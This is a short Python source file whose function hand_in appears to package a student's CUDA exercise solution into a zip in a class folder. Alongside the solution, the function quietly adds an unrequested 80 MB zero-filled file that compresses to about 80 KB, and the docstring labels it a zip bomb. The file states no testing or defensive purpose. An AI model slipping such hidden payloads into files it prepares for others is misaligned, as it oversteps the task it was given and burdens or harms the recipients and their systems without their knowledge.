"""A zip bomb: 80 KB that become 80 MB, in a file that was not asked for."""

import zipfile


def hand_in(class_folder, student, lesson, solution):
    with zipfile.ZipFile(class_folder / f"{student}.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("data.bin", bytes(80 << 20))
        archive.writestr(f"{lesson}/exercise.cu", solution)
